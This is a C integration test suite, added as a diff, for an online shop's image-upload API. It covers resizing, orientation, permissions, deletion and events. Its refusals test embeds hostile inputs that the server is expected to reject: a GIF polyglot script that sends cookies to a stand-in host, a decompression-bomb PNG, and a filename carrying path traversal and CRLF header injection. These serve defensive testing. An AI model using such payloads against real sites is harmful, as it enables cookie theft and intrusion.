@@ -1,0 +1,606 @@
+/*
+ * check_media.c — image uploads through the running shop (POST
+ * /api/v1/media, multipart/form-data) and what they leave behind.
+ *
+ *   - JPEG, PNG, WebP and GIF (made here with MagickWand, 1700x1000) each
+ *     come back in every size (160, 480, 960, 1600) as WebP and JPEG; the
+ *     files are served by the web server with the right type and a
+ *     year-long immutable cache lifetime, and decode to the sizes listed.
+ *   - A JPEG with an EXIF orientation is turned upright and its metadata
+ *     stripped; a narrow image is never upscaled.
+ *   - Refusals leave nothing (no row, no file, no event): a PNG declaring
+ *     30000x30000 pixels (413), a truncated JPEG (415), HTML named .png
+ *     (415), a GIF89a header followed by a script (415), a filename with
+ *     ../ and CR/LF (400), a seller on a product not theirs (404), a
+ *     customer (403) and a guest (401).
+ *   - The product gets the image (media_id) and its page a srcset; alt
+ *     text and order change; the owner list is public; the same bytes
+ *     uploaded twice share files, which go with the last item using them;
+ *     media.uploaded and media.deleted are in media.outbox.
+ * Without ECOM_TEST_BASE_URL the suite is skipped (77).
+ */
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+#include <curl/curl.h>
+#include <check.h>
+#pragma GCC diagnostic push
+#pragma GCC diagnostic ignored "-Wstrict-prototypes"
+#include <wand/MagickWand.h>
+#pragma GCC diagnostic pop
+
+#include "../check_run.h"
+#include "http_client.h"
+
+#define BOUNDARY "----checkmediaBoundary7MA4YWxkTrZu0gW"
+
+static char *admin_tok, *seller_tok, *customer_tok;
+static char *product_id, *product_slug;
+
+/* ------------------------------------------------------------ helpers */
+
+static char *
+psql_value(const char *sql)
+{
+	const char *psql = getenv("ECOM_TEST_PSQL");
+	char cmd[4096];
+
+	ck_assert_msg(psql != NULL, "ECOM_TEST_PSQL not set");
+	ck_assert_int_lt(snprintf(cmd, sizeof cmd, "%s -tAc \"%s\"", psql, sql), (int)sizeof cmd);
+	return run_capture(cmd);
+}
+
+static long
+psql_count(const char *sql)
+{
+	char *v = psql_value(sql);
+	long n;
+
+	ck_assert_ptr_nonnull(v);
+	n = strtol(v, NULL, 10);
+	free(v);
+	return n;
+}
+
+/* Files under the media root's upload folder. */
+static long
+files_count(void)
+{
+	const char *var = getenv("ECOM_VAR");
+	char cmd[1024], *v;
+	long n;
+
+	ck_assert_msg(var != NULL, "ECOM_VAR not set");
+	snprintf(cmd, sizeof cmd, "mkdir -p %s/media/u && find %s/media -type f -path '*/u/*' | wc -l",
+	    var, var);
+	v = run_capture(cmd);
+	ck_assert_ptr_nonnull(v);
+	n = strtol(v, NULL, 10);
+	free(v);
+	return n;
+}
+
+typedef struct grow { char *p; size_t len; } grow;
+
+static size_t
+grow_write(char *d, size_t sz, size_t n, void *ud)
+{
+	grow *g = ud;
+	char *np = realloc(g->p, g->len + sz * n + 1);
+
+	if (np == NULL)
+		return 0;
+	memcpy(np + g->len, d, sz * n);
+	g->p = np;
+	g->len += sz * n;
+	g->p[g->len] = '\0';
+	return sz * n;
+}
+
+/* A multipart body: fields (name, value pairs, NULL-terminated) and one
+ * file part (skipped when data is NULL). */
+static char *
+mp_body(const char *const *fields, const char *filename, const char *ctype,
+    const void *data, size_t len, size_t *outlen)
+{
+	grow g = { NULL, 0 };
+	char head[1024];
+
+	for (; fields != NULL && fields[0] != NULL; fields += 2) {
+		snprintf(head, sizeof head, "--" BOUNDARY "\r\nContent-Disposition: form-data; "
+		    "name=\"%s\"\r\n\r\n%s\r\n", fields[0], fields[1]);
+		grow_write(head, 1, strlen(head), &g);
+	}
+	if (data != NULL) {
+		snprintf(head, sizeof head, "--" BOUNDARY "\r\nContent-Disposition: form-data; "
+		    "name=\"file\"; filename=\"%s\"\r\nContent-Type: %s\r\n\r\n", filename, ctype);
+		grow_write(head, 1, strlen(head), &g);
+		grow_write((char *)data, 1, len, &g);
+		grow_write("\r\n", 1, 2, &g);
+	}
+	grow_write("--" BOUNDARY "--\r\n", 1, strlen("--" BOUNDARY "--\r\n"), &g);
+	*outlen = g.len;
+	return g.p;
+}
+
+/* POST the body to /api/v1/media with a Bearer token (or none). */
+static http_result *
+upload_raw(const char *tok, const char *body, size_t len)
+{
+	http_result *r = calloc(1, sizeof *r);
+	grow hb = { NULL, 0 }, bb = { NULL, 0 };
+	struct curl_slist *hl = NULL;
+	char url[1024], auth[4096];
+	CURL *c = curl_easy_init();
+
+	ck_assert_ptr_nonnull(r);
+	snprintf(url, sizeof url, "%s/api/v1/media", test_base_url());
+	hl = curl_slist_append(hl, "Content-Type: multipart/form-data; boundary=" BOUNDARY);
+	hl = curl_slist_append(hl, "X-Forwarded-For: 198.51.100.91");
+	hl = curl_slist_append(hl, "Expect:");
+	if (tok != NULL) {
+		snprintf(auth, sizeof auth, "Authorization: Bearer %s", tok);
+		hl = curl_slist_append(hl, auth);
+	}
+	curl_easy_setopt(c, CURLOPT_URL, url);
+	curl_easy_setopt(c, CURLOPT_POST, 1L);
+	curl_easy_setopt(c, CURLOPT_POSTFIELDS, body);
+	curl_easy_setopt(c, CURLOPT_POSTFIELDSIZE, (long)len);
+	curl_easy_setopt(c, CURLOPT_HTTPHEADER, hl);
+	curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, grow_write);
+	curl_easy_setopt(c, CURLOPT_WRITEDATA, &bb);
+	curl_easy_setopt(c, CURLOPT_HEADERFUNCTION, grow_write);
+	curl_easy_setopt(c, CURLOPT_HEADERDATA, &hb);
+	curl_easy_setopt(c, CURLOPT_TIMEOUT, 60L);
+	ck_assert_int_eq(curl_easy_perform(c), CURLE_OK);
+	curl_easy_getinfo(c, CURLINFO_RESPONSE_CODE, &r->status);
+	curl_slist_free_all(hl);
+	curl_easy_cleanup(c);
+	r->headers = hb.p != NULL ? hb.p : strdup("");
+	r->body = bb.p != NULL ? bb.p : strdup("");
+	r->body_len = bb.len;
+	r->json = json_tokener_parse(r->body);
+	return r;
+}
+
+static http_result *
+upload(const char *tok, const char *owner_type, const char *owner_id, const char *alt,
+    const char *filename, const char *ctype, const void *data, size_t len)
+{
+	const char *fields[] = { "owner_type", owner_type, "owner_id", owner_id,
+	    alt != NULL ? "alt_text" : NULL, alt, NULL };
+	size_t blen;
+	char *body = mp_body(fields, filename, ctype, data, len, &blen);
+	http_result *r = upload_raw(tok, body, blen);
+
+	free(body);
+	return r;
+}
+
+static http_result *
+call(const char *tok, const char *method, const char *path, const char *body)
+{
+	char auth[4096];
+	const char *h[4] = { "X-Forwarded-For: 198.51.100.91", NULL, NULL, NULL };
+	int n = 1;
+
+	if (tok != NULL) {
+		snprintf(auth, sizeof auth, "Authorization: Bearer %s", tok);
+		h[n++] = auth;
+	}
+	if (body != NULL)
+		h[n++] = "Content-Type: application/json";
+	return http_do(test_base_url(), method, path, body, h);
+}
+
+/* An image of w x h in the given format ("PNG", "JPEG", ...), one colour
+ * with a stripe so sizes differ in content; malloc'd. */
+static unsigned char *
+make_image(const char *format, size_t w, size_t h, const char *color, int orientation,
+    size_t *len)
+{
+	MagickWand *mw = NewMagickWand();
+	PixelWand *pw = NewPixelWand();
+	DrawingWand *dw = NewDrawingWand();
+	PixelWand *stripe = NewPixelWand();
+	unsigned char *blob, *out;
+
+	PixelSetColor(pw, color);
+	ck_assert(MagickNewImage(mw, w, h, pw));
+	PixelSetColor(stripe, "#204080");
+	DrawSetFillColor(dw, stripe);
+	DrawRectangle(dw, 0, 0, (double)w / 3, (double)h / 2);
+	MagickDrawImage(mw, dw);
+	ck_assert(MagickSetImageFormat(mw, format));
+	blob = MagickGetImageBlob(mw, len);
+	ck_assert_ptr_nonnull(blob);
+	if (orientation) {
+		/* an EXIF APP1 right after SOI: one IFD entry, Orientation (0x0112) */
+		static const unsigned char app1[] = {
+			0xff, 0xe1, 0x00, 0x22, 'E', 'x', 'i', 'f', 0, 0,
+			'M', 'M', 0, 0x2a, 0, 0, 0, 8, 0, 1,
+			0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0 };
+		ck_assert(blob[0] == 0xff && blob[1] == 0xd8);
+		out = malloc(*len + sizeof app1);
+		memcpy(out, blob, 2);
+		memcpy(out + 2, app1, sizeof app1);
+		out[2 + 29] = (unsigned char)orientation;
+		memcpy(out + 2 + sizeof app1, blob + 2, *len - 2);
+		*len += sizeof app1;
+	} else {
+		out = malloc(*len);
+		memcpy(out, blob, *len);
+	}
+	MagickRelinquishMemory(blob);
+	DestroyDrawingWand(dw);
+	DestroyPixelWand(stripe);
+	DestroyPixelWand(pw);
+	DestroyMagickWand(mw);
+	return out;
+}
+
+/* Fetch a URL path of the shop; 1 and its bytes decoded to w x h. */
+static void
+fetch_image(const char *url, const char *want_type, long want_w, long want_h)
+{
+	http_result *r = http_get(url);
+	char v[256];
+	MagickWand *mw;
+
+	ck_assert_msg(r->status == 200, "%s: %ld", url, r->status);
+	ck_assert(http_header(r, "content-type", v, sizeof v));
+	ck_assert_msg(strcmp(v, want_type) == 0, "%s: type %s", url, v);
+	ck_assert(http_header(r, "cache-control", v, sizeof v));
+	ck_assert_msg(strstr(v, "max-age=31536000") != NULL && strstr(v, "immutable") != NULL,
+	    "%s: cache %s", url, v);
+	mw = NewMagickWand();
+	ck_assert(MagickPingImageBlob(mw, r->body, r->body_len));
+	ck_assert_msg((long)MagickGetImageWidth(mw) == want_w &&
+	    (long)MagickGetImageHeight(mw) == want_h, "%s: %zux%zu, want %ldx%ld", url,
+	    MagickGetImageWidth(mw), MagickGetImageHeight(mw), want_w, want_h);
+	/* no metadata left */
+	ck_assert_msg(memmem(r->body, r->body_len, "Exif", 4) == NULL, "%s keeps EXIF", url);
+	DestroyMagickWand(mw);
+	http_result_free(r);
+}
+
+static int
+suite_setup_done;
+
+static void
+setup(void)
+{
+	char *row, *bar;
+
+	if (suite_setup_done)
+		return;
+	MagickWandGenesis();
+	curl_global_init(CURL_GLOBAL_DEFAULT);
+	row = psql_value("SELECT gen_random_uuid()");
+	admin_tok = mint_token("admin", row);
+	free(row);
+	row = psql_value("SELECT gen_random_uuid()");
+	seller_tok = mint_token("seller", row);
+	free(row);
+	row = psql_value("SELECT gen_random_uuid()");
+	customer_tok = mint_token("customer", row);
+	free(row);
+	row = psql_value("SELECT id || '|' || slug FROM catalog.products WHERE status = 'published'"
+	    " AND seller_id IS NULL ORDER BY created_at, id LIMIT 1");
+	ck_assert_ptr_nonnull(row);
+	bar = strchr(row, '|');
+	ck_assert_ptr_nonnull(bar);
+	*bar = '\0';
+	product_id = strdup(row);
+	product_slug = strdup(bar + 1);
+	free(row);
+	suite_setup_done = 1;
+}
+
+static void
+skip_without_stack(void)
+{
+	if (test_base_url() == NULL || getenv("ECOM_TEST_PSQL") == NULL)
+		exit(77);
+}
+
+/* ------------------------------------------------------------ tests */
+
+static const struct { const char *format, *name, *ctype, *color, *kind; } formats[] = {
+	{ "JPEG", "photo.jpg", "image/jpeg", "#e03020", "jpeg" },
+	{ "PNG", "drawing.png", "image/png", "#30c040", "png" },
+	{ "WEBP", "pic.webp", "image/webp", "#a0a0f0", "webp" },
+	{ "GIF", "anim.gif", "image/gif", "#f0e000", "gif" },
+};
+
+START_TEST(round_trips_every_format)
+{
+	static const int widths[] = { 160, 480, 960, 1600 };
+	size_t len;
+	unsigned char *img;
+	http_result *r;
+	char q[512];
+
+	setup();
+	img = make_image(formats[_i].format, 1700, 1000, formats[_i].color, 0, &len);
+	/* the declared type is ignored: judged by content */
+	r = upload(admin_tok, "category", product_id, "a swatch", formats[_i].name,
+	    "application/octet-stream", img, len);
+	ck_assert_msg(r->status == 201, "%s: %ld %s", formats[_i].format, r->status, r->body);
+	ck_assert_str_eq(jstr(r->json, "data.source_format"), formats[_i].kind);
+	ck_assert_int_eq(jint(r->json, "data.width"), 1600);
+	ck_assert_int_eq(jint(r->json, "data.height"), 941);
+	ck_assert_int_eq(json_object_array_length(jpath(r->json, "data.variants")), 8);
+	for (size_t i = 0; i < 4; i++) {
+		char key[64];
+		long h = (1000L * widths[i] + 850) / 1700;
+
+		snprintf(key, sizeof key, "data.urls.%d.webp", widths[i]);
+		ck_assert(strncmp(jstr(r->json, key), "/media/u/", 9) == 0);
+		fetch_image(jstr(r->json, key), "image/webp", widths[i], h);
+		snprintf(key, sizeof key, "data.urls.%d.jpeg", widths[i]);
+		fetch_image(jstr(r->json, key), "image/jpeg", widths[i], h);
+	}
+	/* nothing in any name comes from the upload */
+	ck_assert_ptr_null(strstr(r->body, formats[_i].name));
+	snprintf(q, sizeof q, "SELECT count(*) FROM media.variants WHERE media_id = '%s'",
+	    jstr(r->json, "data.id"));
+	ck_assert_int_eq(psql_count(q), 8);
+	/* clean up: category media is admin's to delete */
+	snprintf(q, sizeof q, "/api/v1/media/%s", jstr(r->json, "data.id"));
+	http_result_free(r);
+	r = call(admin_tok, "DELETE", q, NULL);
+	ck_assert_int_eq(r->status, 200);
+	http_result_free(r);
+	free(img);
+}
+END_TEST
+
+START_TEST(orients_and_never_upscales)
+{
+	size_t len;
+	unsigned char *img;
+	http_result *r;
+	char q[256];
+
+	setup();
+	/* 400x200 stored sideways (EXIF orientation 6: rotate 90 clockwise) */
+	img = make_image("JPEG", 400, 200, "#808000", RightTopOrientation, &len);
+	ck_assert(memmem(img, len, "Exif", 4) != NULL);
+	r = upload(admin_tok, "brand", product_id, NULL, "side.jpg", "image/jpeg", img, len);
+	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
+	/* upright: 200 wide, 400 high; sizes 160 and the original 200 only */
+	ck_assert_int_eq(jint(r->json, "data.width"), 200);
+	ck_assert_int_eq(jint(r->json, "data.height"), 400);
+	ck_assert_int_eq(json_object_array_length(jpath(r->json, "data.variants")), 4);
+	ck_assert_ptr_null(jpath(r->json, "data.urls.480"));
+	fetch_image(jstr(r->json, "data.urls.200.jpeg"), "image/jpeg", 200, 400);
+	fetch_image(jstr(r->json, "data.urls.160.webp"), "image/webp", 160, 320);
+	snprintf(q, sizeof q, "/api/v1/media/%s", jstr(r->json, "data.id"));
+	http_result_free(r);
+	r = call(admin_tok, "DELETE", q, NULL);
+	ck_assert_int_eq(r->status, 200);
+	http_result_free(r);
+	free(img);
+}
+END_TEST
+
+/* Each refusal: the status, and no row, file or event left. */
+static void
+refused(http_result *r, long want, const char *what)
+{
+	ck_assert_msg(r->status == want, "%s: %ld, want %ld: %s", what, r->status, want, r->body);
+	if (want != 401 && r->json != NULL)
+		ck_assert_msg(jpath(r->json, "error.code") != NULL, "%s: no error envelope", what);
+	http_result_free(r);
+}
+
+START_TEST(refuses_and_writes_nothing)
+{
+	long items, files, events;
+	size_t jlen;
+	unsigned char *jpeg;
+	http_result *r;
+
+	setup();
+	items = psql_count("SELECT count(*) FROM media.items");
+	events = psql_count("SELECT count(*) FROM media.outbox");
+	files = files_count();
+
+	/* a PNG that declares 30000x30000 pixels */
+	{
+		unsigned char bomb[64] = {
+			0x89, 'P', 'N', 'G', 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 'I', 'H', 'D', 'R',
+			0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30, 8, 2, 0, 0, 0, 0, 0, 0, 0 };
+		r = upload(admin_tok, "category", product_id, NULL, "bomb.png", "image/png",
+		    bomb, sizeof bomb);
+		refused(r, 413, "30000x30000 PNG");
+	}
+	/* a JPEG cut in half */
+	jpeg = make_image("JPEG", 800, 600, "#336699", 0, &jlen);
+	r = upload(admin_tok, "category", product_id, NULL, "cut.jpg", "image/jpeg", jpeg, jlen / 2);
+	refused(r, 415, "truncated JPEG");
+	/* HTML with an image's name and type */
+	{
+		static const char html[] = "<!DOCTYPE html><html><body><script>alert(1)</script></body></html>";
+		r = upload(admin_tok, "category", product_id, NULL, "cat.png", "image/png",
+		    html, sizeof html - 1);
+		refused(r, 415, "HTML named .png");
+	}
+	/* a polyglot: a GIF89a header (1x1 screen) followed by a script */
+	{
+		static const char poly[] = "GIF89a\x01\x00\x01\x00\x00\x00\x00"
+		    "<script>document.location='//evil.example/'+document.cookie</script>";
+		r = upload(admin_tok, "category", product_id, NULL, "poly.gif", "image/gif",
+		    poly, sizeof poly - 1);
+		refused(r, 415, "GIF89a polyglot");
+	}
+	/* a filename with ../ and CR/LF: the multipart parser refuses it */
+	r = upload(admin_tok, "category", product_id, NULL, "../../etc/x.png\r\nX-Injected: 1",
+	    "image/png", jpeg, jlen);
+	refused(r, 400, "filename with ../ and CRLF");
+	/* a body over the upload limit */
+	{
+		size_t big = 11 * 1024 * 1024;
+		char *b = malloc(big);
+		memset(b, 'x', big);
+		r = upload_raw(admin_tok, b, big);
+		refused(r, 413, "11 MiB body");
+		free(b);
+	}
+	/* who may upload to what */
+	r = upload(seller_tok, "product", product_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
+	refused(r, 404, "seller on the shop's product");
+	r = upload(seller_tok, "category", product_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
+	refused(r, 403, "seller on a category");
+	r = upload(customer_tok, "product", product_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
+	refused(r, 403, "customer");
+	r = upload(NULL, "product", product_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
+	refused(r, 401, "guest");
+	/* a missing file and a bad owner */
+	r = upload(admin_tok, "product", product_id, NULL, NULL, NULL, NULL, 0);
+	refused(r, 400, "no file");
+	r = upload(admin_tok, "planet", product_id, NULL, "p.jpg", "image/jpeg", jpeg, jlen);
+	refused(r, 400, "bad owner_type");
+	/* not multipart at all */
+	r = call(admin_tok, "POST", "/api/v1/media", "{}");
+	refused(r, 415, "JSON body");
+
+	ck_assert_int_eq(psql_count("SELECT count(*) FROM media.items"), items);
+	ck_assert_int_eq(psql_count("SELECT count(*) FROM media.outbox"), events);
+	ck_assert_int_eq(files_count(), files);
+	free(jpeg);
+}
+END_TEST
+
+START_TEST(product_images_alt_order_and_delete)
+{
+	size_t len;
+	unsigned char *img;
+	http_result *r, *r2;
+	char q[1024], path[256], id1[64], id2[64], url[256];
+	long files;
+
+	setup();
+	files = files_count();
+	img = make_image("PNG", 1000, 800, "#10a0a0", 0, &len);
+	r = upload(admin_tok, "product", product_id, "Teal & <b>bold</b>", "t.png", "image/png", img, len);
+	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
+	snprintf(id1, sizeof id1, "%s", jstr(r->json, "data.id"));
+	snprintf(url, sizeof url, "%s", jstr(r->json, "data.urls.960.webp"));
+	http_result_free(r);
+	/* the same bytes again share the files */
+	r = upload(admin_tok, "product", product_id, NULL, "again.png", "image/png", img, len);
+	ck_assert_msg(r->status == 201, "%ld %s", r->status, r->body);
+	snprintf(id2, sizeof id2, "%s", jstr(r->json, "data.id"));
+	ck_assert_str_eq(jstr(r->json, "data.urls.960.webp"), url);
+	http_result_free(r);
+	ck_assert_int_eq(files_count(), files + 8);
+
+	/* the product lists both as images, from the media library */
+	snprintf(q, sizeof q, "SELECT count(*) FROM catalog.images WHERE product_id = '%s'"
+	    " AND media_id IN ('%s', '%s')", product_id, id1, id2);
+	ck_assert_int_eq(psql_count(q), 2);
+	/* the owner list is public */
+	snprintf(path, sizeof path, "/api/v1/media/owner/product/%s", product_id);
+	r = call(NULL, "GET", path, NULL);
+	ck_assert_int_eq(r->status, 200);
+	ck_assert_ptr_nonnull(strstr(r->body, id1));
+	ck_assert_ptr_nonnull(strstr(r->body, id2));
+	http_result_free(r);
+	/* the product page: srcset, sizes, width and height, alt escaped */
+	snprintf(path, sizeof path, "/p/%s", product_slug);
+	r = http_get(path);
+	ck_assert_int_eq(r->status, 200);
+	ck_assert_msg(strstr(r->body, "type=\"image/webp\" srcset=\"/media/u/") != NULL, "%s", r->body);
+	ck_assert_ptr_nonnull(strstr(r->body, " 960w"));
+	ck_assert_ptr_nonnull(strstr(r->body, "sizes=\""));
+	ck_assert_ptr_nonnull(strstr(r->body, "Teal &amp; &lt;b&gt;bold&lt;/b&gt;"));
+	ck_assert_ptr_null(strstr(r->body, "<b>bold</b>"));
+	http_result_free(r);
+
+	/* alt text and order */
+	snprintf(path, sizeof path, "/api/v1/media/%s", id1);
+	r = call(admin_tok, "PUT", path, "{\"alt_text\":\"Teal mug\",\"sort_order\":7}");
+	ck_assert_msg(r->status == 200, "%ld %s", r->status, r->body);
+	ck_assert_str_eq(jstr(r->json, "data.alt_text"), "Teal mug");
+	ck_assert_int_eq(jint(r->json, "data.sort_order"), 7);
+	http_result_free(r);
+	r = call(admin_tok, "PUT", path, "{\"sort_order\":\"x\"}");
+	ck_assert_int_eq(r->status, 400);
+	http_result_free(r);
+	r = call(seller_tok, "GET", path, NULL);
+	ck_assert_int_eq(r->status, 404);	/* not the seller's upload */
+	http_result_free(r);
+	r = call(admin_tok, "GET", path, NULL);
+	ck_assert_int_eq(r->status, 200);
+	ck_assert_str_eq(jstr(r->json, "data.alt_text"), "Teal mug");
+	http_result_free(r);
+
+	/* delete the first: the shared files stay */
+	r = call(seller_tok, "DELETE", path, NULL);
+	ck_assert_int_eq(r->status, 404);
+	http_result_free(r);
+	r = call(admin_tok, "DELETE", path, NULL);
+	ck_assert_int_eq(r->status, 200);
+	ck_assert_str_eq(jstr(r->json, "data.status"), "deleted");
+	http_result_free(r);
+	r2 = http_get(url);
+	ck_assert_int_eq(r2->status, 200);
+	http_result_free(r2);
+	ck_assert_int_eq(files_count(), files + 8);
+	/* the second: the files go too, and the product's images */
+	snprintf(path, sizeof path, "/api/v1/media/%s", id2);
+	r = call(admin_tok, "DELETE", path, NULL);
+	ck_assert_int_eq(r->status, 200);
+	http_result_free(r);
+	ck_assert_int_eq(files_count(), files);
+	/* lighttpd may answer from its stat cache for a moment */
+	for (int i = 0; i < 30; i++) {
+		r2 = http_get(url);
+		long st = r2->status;
+		http_result_free(r2);
+		if (st == 404)
+			break;
+		ck_assert_msg(i < 29, "%s still served: %ld", url, st);
+		usleep(200 * 1000);
+	}
+	snprintf(q, sizeof q, "SELECT count(*) FROM catalog.images WHERE media_id IN ('%s', '%s')",
+	    id1, id2);
+	ck_assert_int_eq(psql_count(q), 0);
+	r = call(admin_tok, "GET", path, NULL);
+	ck_assert_int_eq(r->status, 404);
+	http_result_free(r);
+	/* events: uploaded and deleted for each */
+	snprintf(q, sizeof q, "SELECT count(*) FROM media.outbox WHERE aggregate_id IN ('%s', '%s')"
+	    " AND event_type = 'ecommerce.media.uploaded'", id1, id2);
+	ck_assert_int_eq(psql_count(q), 2);
+	snprintf(q, sizeof q, "SELECT count(*) FROM media.outbox WHERE aggregate_id IN ('%s', '%s')"
+	    " AND event_type = 'ecommerce.media.deleted'", id1, id2);
+	ck_assert_int_eq(psql_count(q), 2);
+	free(img);
+}
+END_TEST
+
+static Suite *
+media_suite(void)
+{
+	Suite *s = suite_create("media");
+	TCase *tc = tcase_create("media");
+
+	tcase_set_timeout(tc, 120);
+	tcase_add_loop_test(tc, round_trips_every_format, 0, (int)(sizeof formats / sizeof formats[0]));
+	tcase_add_test(tc, orients_and_never_upscales);
+	tcase_add_test(tc, refuses_and_writes_nothing);
+	tcase_add_test(tc, product_images_alt_order_and_delete);
+	suite_add_tcase(s, tc);
+	return s;
+}
+
+int
+main(void)
+{
+	skip_without_stack();
+	return check_run(media_suite());
+}
